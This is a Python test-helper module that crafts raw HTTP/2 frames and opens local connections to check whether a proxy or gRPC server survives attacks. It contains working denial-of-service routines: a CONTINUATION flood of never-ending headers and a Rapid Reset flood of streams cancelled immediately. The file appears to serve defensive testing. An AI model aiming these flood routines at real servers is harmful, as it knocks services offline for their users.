"""HTTP/2 connections for tests of attacks: sends single frames over TLS or TCP, from a chosen source address."""

import socket
import ssl
import struct
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    """Returns an HTTP/2 frame (RFC 9113)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def integer(value, prefix_bits, first=0):
    """Returns an integer in HPACK's form (RFC 7541, section 5.1)."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    out = bytearray([first | most])
    value -= most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + bytes([value]))


def field(name, value):
    """Returns a header field in HPACK's form: literal, not indexed, without Huffman code."""
    return b"\0" + integer(len(name), 7) + name.encode() + integer(len(value), 7) + value.encode()


def call_header(path, token):
    """Returns the header of a gRPC call."""
    return b"".join(field(name, value) for name, value in [
        (":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "localhost"),
        ("te", "trailers"), ("content-type", "application/grpc"), ("authorization", "Bearer " + token)])


EMPTY_MESSAGE = b"\0\0\0\0\0"  # a gRPC message of 0 bytes


class Connection:
    """A connection to the port of a proxy or server. `authority`: file that its certificate is checked with; None: no TLS."""

    def __init__(self, port, authority=None, source="127.0.0.1"):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(source, 0))
        if authority is not None:
            context = ssl.create_default_context(cafile=authority)
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket, server_hostname="localhost")
        self.received = b""

    def start(self):
        """Starts HTTP/2."""
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        """Sends bytes. Returns whether the connection is still open. Drops what has arrived."""
        try:
            self.socket.sendall(data)
            return not self.is_closed()
        except OSError:
            return False

    def frames(self, seconds):
        """Returns the frames that arrive within the time, as tuples (kind, flags, stream, payload). Stops at the end of the connection."""
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            self.socket.settimeout(left)
            try:
                more = self.socket.recv(65536)
            except OSError:
                break
            if not more:
                break
            self.received += more
            while len(self.received) >= 9:
                size = int.from_bytes(self.received[:3], "big")
                if len(self.received) < 9 + size:
                    break
                kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
                yield kind, flags, stream, self.received[9:9 + size]
                self.received = self.received[9 + size:]

    def call(self, path, token, stream=1):
        """Makes a call with an empty message. Returns the first block of the answer's header, or None without an answer in 10 s."""
        header = frame(HEADERS, END_HEADERS, stream, call_header(path, token))
        self.socket.sendall(header + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE))
        block = None
        for kind, flags, number, payload in self.frames(10):
            if number == stream and kind == HEADERS and block is None:
                block = payload
            if number == stream and flags & END_STREAM and kind in (DATA, HEADERS):
                return block
        return None

    def is_closed(self):
        """Returns whether the other end has closed the connection. Drops what has arrived."""
        self.socket.setblocking(False)
        try:
            for _ in range(100):
                if not self.socket.recv(65536):
                    return True
        except (BlockingIOError, ssl.SSLWantReadError):
            return False
        except OSError:
            return True
        finally:
            try:
                self.socket.settimeout(10)
            except OSError:
                pass
        return False

    def close(self):
        self.socket.close()


# Headers that never end, as first fragment and further fragments of 16,000 bytes.
ENDLESS_HEADERS = {
    "a field whose name has 2,000,000,000 bytes": (b"\0" + integer(2_000_000_000, 7) + b"x" * 16000, b"x" * 16000),
    "fields of 200 bytes": (field("a" * 97, "b" * 100) * 80, field("a" * 97, "b" * 100) * 80),
}


def send_endless_header(connection, stream, fragments, most_bytes, seconds):
    """Sends HEADERS without END_HEADERS and then CONTINUATION frames. `fragments`: an item of ENDLESS_HEADERS.
    Returns the number of bytes sent until the connection was cut, or None if it was not."""
    first, further = fragments
    if not connection.send(frame(HEADERS, 0, stream, first)):
        return 0
    sent, end = len(first), time.monotonic() + seconds
    while sent < most_bytes and time.monotonic() < end:
        if not connection.send(frame(CONTINUATION, 0, stream, further)):
            return sent
        sent += len(further)
    return None


def reset_rapidly(port, authority, source, token, seconds):
    """Starts calls and resets each at once, for some seconds. Connects again when it is cut. Returns the number of calls."""
    calls, end, header = 0, time.monotonic() + seconds, call_header("/octopair.v1.Octopair/Status", token)
    while time.monotonic() < end:
        try:
            connection = Connection(port, authority, source)
            connection.start()
        except OSError:
            time.sleep(0.01)
            continue
        stream = 1
        while time.monotonic() < end:
            batch = b"".join(frame(HEADERS, END_HEADERS, number, header) + frame(RST_STREAM, 0, number, b"\0\0\0\x08")
                             for number in range(stream, stream + 100, 2))
            if not connection.send(batch):
                break
            stream += 100
            calls += 50
        connection.close()
    return calls
